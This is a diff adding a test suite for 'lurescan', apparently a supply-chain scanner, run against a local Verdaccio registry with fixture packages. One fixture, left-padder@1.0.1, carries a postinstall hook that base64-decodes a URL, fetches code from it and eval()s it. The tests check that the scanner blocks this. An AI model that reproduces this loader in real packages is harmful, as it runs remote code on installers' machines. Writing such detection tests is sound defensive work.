@@ -1,0 +1,143 @@
+/**
+ * `lurescan package` and `--online` against a real Verdaccio on loopback, with fixture packages published into it
+ * by the test: a clean version, a next version that adds a postinstall loader, a holding version, a package whose
+ * maintainers change, and a dependency name the registry does not have.
+ */
+import assert from 'node:assert/strict';
+import { execFileSync, spawnSync } from 'node:child_process';
+import { mkdirSync, writeFileSync } from 'node:fs';
+import path from 'node:path';
+import { startVerdaccio, type Verdaccio } from '../scripts/lib/verdaccio.mjs';
+import { scan } from '../src/scan.js';
+import { fetchTarball, fetchPackument, RegistryError } from '../src/registry/client.js';
+import { registryOptions } from '../src/registry/config.js';
+import { ROOT, tempDir } from './helpers.js';
+
+const BIN = path.join(ROOT, 'bin', 'lurescan.js');
+const LOADER_URL = Buffer.from('http://203.0.113.77/api/ipcheck-encrypted/42').toString('base64');
+
+describe('registry (real Verdaccio)', function () {
+  this.timeout(180_000);
+  let reg: Verdaccio;
+  let tmp: ReturnType<typeof tempDir>;
+  let npmrc: string;
+
+  function publish(name: string, version: string, files: Record<string, string>, manifest: Record<string, unknown> = {}, token = reg.token) {
+    const dir = path.join(tmp.dir, 'pkgs', `${name.replace('/', '+')}-${version}`);
+    mkdirSync(dir, { recursive: true });
+    writeFileSync(path.join(dir, 'package.json'), JSON.stringify({ name, version, main: 'index.js', license: 'MIT', ...manifest }, null, 2));
+    for (const [rel, text] of Object.entries(files)) {
+      mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
+      writeFileSync(path.join(dir, rel), text);
+    }
+    const rc = path.join(tmp.dir, `publish-${token.slice(0, 6)}.npmrc`);
+    writeFileSync(rc, `registry=${reg.url}\n//127.0.0.1:${reg.port}/:_authToken=${token}\n`);
+    execFileSync('npm', ['publish', dir, '--registry', reg.url, '--userconfig', rc, '--ignore-scripts', '--tag', version.includes('security') ? 'latest' : 'latest'], {
+      stdio: 'pipe',
+      env: { ...process.env, npm_config_userconfig: rc },
+    });
+  }
+
+  async function addUser(name: string): Promise<string> {
+    const res = await fetch(`${reg.url}-/user/org.couchdb.user:${name}`, {
+      method: 'PUT',
+      headers: { 'content-type': 'application/json' },
+      body: JSON.stringify({ name, password: `${name}-password` }),
+    });
+    return ((await res.json()) as { token: string }).token;
+  }
+
+  before(async () => {
+    tmp = tempDir('lurescan-registry-');
+    reg = await startVerdaccio();
+    npmrc = path.join(tmp.dir, 'user.npmrc');
+    writeFileSync(npmrc, `registry=${reg.url}\n`);
+    publish('left-padder', '1.0.0', { 'index.js': "module.exports = (s, n) => String(s).padStart(n);\n" });
+    publish(
+      'left-padder',
+      '1.0.1',
+      {
+        'index.js': "module.exports = (s, n) => String(s).padStart(n);\n",
+        'lib/setup.js': `const http = require('http');\nconst u = Buffer.from('${LOADER_URL}', 'base64').toString();\nhttp.get(u, (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => eval(d)); });\n`,
+      },
+      { scripts: { postinstall: 'node lib/setup.js' } },
+    );
+    publish('colour-helpers', '0.0.1-security', { 'README.md': 'security holding package\n' });
+    // Registries record the maintainers of each version; the publish document carries them.
+    publish('handover-lib', '1.0.0', { 'index.js': 'module.exports = 1;\n' }, { maintainers: [{ name: 'alice', email: 'alice@example.invalid' }] });
+    publish('handover-lib', '1.0.1', { 'index.js': 'module.exports = 2;\n' }, { maintainers: [{ name: 'new-owner', email: 'owner@example.invalid' }] }, await addUser('new-owner'));
+  });
+
+  after(async () => {
+    await reg?.stop();
+    tmp?.cleanup();
+  });
+
+  function cli(args: string[]) {
+    const r = spawnSync(process.execPath, [BIN, ...args], { encoding: 'utf8', env: { ...process.env, npm_config_userconfig: npmrc, NO_COLOR: '1' }, cwd: tmp.dir });
+    return { code: r.status, stdout: r.stdout, stderr: r.stderr };
+  }
+
+  it('left-padder@1.0.1 (adds a postinstall loader) blocks, and nothing is installed', () => {
+    const r = cli(['package', 'left-padder@1.0.1', '--registry', reg.url, '--format', 'json']);
+    assert.equal(r.code, 1, r.stderr);
+    const j = JSON.parse(r.stdout);
+    assert.equal(j.verdict, 'block');
+    assert.equal(j.provenance.source, 'npm:left-padder@1.0.1');
+    assert.match(j.provenance.integrity, /^sha512-/);
+    const ids = new Set(j.findings.map((f: { ruleId: string }) => f.ruleId));
+    assert.ok(ids.has('registry-install-script-added'), [...ids].join(','));
+    assert.ok(j.findings.some((f: { location: { file: string } }) => f.location.file === 'lib/setup.js'), 'the loader file is analysed');
+    assert.ok(!JSON.stringify(j).includes(reg.token), 'no token in the report');
+  });
+
+  it('left-padder@1.0.0 (clean) passes with exit 0; a range resolves like npm', () => {
+    const r = cli(['package', 'left-padder@1.0.0', '--registry', reg.url, '--format', 'json']);
+    assert.equal(r.code, 0, r.stdout + r.stderr);
+    assert.notEqual(JSON.parse(r.stdout).verdict, 'block');
+    const range = cli(['package', 'left-padder@~1.0.0', '--registry', reg.url, '--format', 'json']);
+    assert.equal(JSON.parse(range.stdout).provenance.source, 'npm:left-padder@1.0.1');
+  });
+
+  it('a holding version and a maintainer change are findings of their own', async () => {
+    const holding = await scan({ kind: 'npm', spec: 'colour-helpers', registry: reg.url }, { registry: { npmrcTexts: [] } });
+    assert.equal(holding.verdict, 'block');
+    assert.ok(holding.findings.some((f) => f.ruleId === 'registry-security-holding'));
+    const handover = await scan({ kind: 'npm', spec: 'handover-lib@1.0.1', registry: reg.url }, { registry: { npmrcTexts: [] } });
+    const m = handover.findings.find((f) => f.ruleId === 'registry-maintainer-change');
+    assert.ok(m, handover.findings.map((f) => f.ruleId).join(','));
+    assert.match(m.message, /new-owner/);
+  });
+
+  it('--online flags a dependency name the registry lacks, and stays offline by default', async () => {
+    const repo = path.join(tmp.dir, 'repo');
+    mkdirSync(repo);
+    writeFileSync(path.join(repo, 'package.json'), JSON.stringify({ name: 'app', dependencies: { 'left-padder': '^1.0.0', 'corp-internal-auth-helpers': '^2.0.0' } }, null, 2));
+    const offline = await scan({ kind: 'path', path: repo }, { registry: { registry: reg.url } });
+    assert.ok(!offline.findings.some((f) => f.ruleId.startsWith('registry-')), 'no registry facts without --online');
+    const online = await scan({ kind: 'path', path: repo }, { online: true, registry: { registry: reg.url }, cacheDir: path.join(tmp.dir, 'cache') });
+    const missing = online.findings.find((f) => f.ruleId === 'registry-missing-package');
+    assert.ok(missing, online.findings.map((f) => f.ruleId).join(','));
+    assert.equal(missing.location.file, 'package.json');
+    assert.ok(missing.location.line);
+    // The cache answers the next scan even when the registry is gone (stale entries are a fall-back).
+    const again = await scan({ kind: 'path', path: repo }, { online: true, registry: { registry: 'http://127.0.0.1:9/' }, cacheDir: path.join(tmp.dir, 'cache') });
+    assert.ok(again.diagnostics.some((d) => d.code === 'registry-lookup-failed'), 'a different registry is a different cache key: failure is reported');
+  });
+
+  it('errors: unreachable (exit 2), 404, bad spec, integrity mismatch', async () => {
+    const down = cli(['package', 'left-padder', '--registry', 'http://127.0.0.1:9/']);
+    assert.equal(down.code, 2);
+    assert.match(down.stderr, /cannot reach http:\/\/127\.0\.0\.1:9\//);
+    const missing = cli(['package', 'no-such-package-here', '--registry', reg.url]);
+    assert.equal(missing.code, 2);
+    assert.match(missing.stderr, /not found on/);
+    const bad = cli(['package', 'git+https://example.invalid/x.git']);
+    assert.equal(bad.code, 2);
+    const opts = registryOptions({ registry: reg.url });
+    const p = await fetchPackument('left-padder', opts);
+    const forged = JSON.parse(JSON.stringify(p));
+    forged.versions['1.0.0'].dist.integrity = 'sha512-' + Buffer.alloc(64).toString('base64');
+    await assert.rejects(fetchTarball('left-padder', '1.0.0', forged, opts, 1e8), (e: unknown) => e instanceof RegistryError && e.code === 'integrity');
+  });
+});
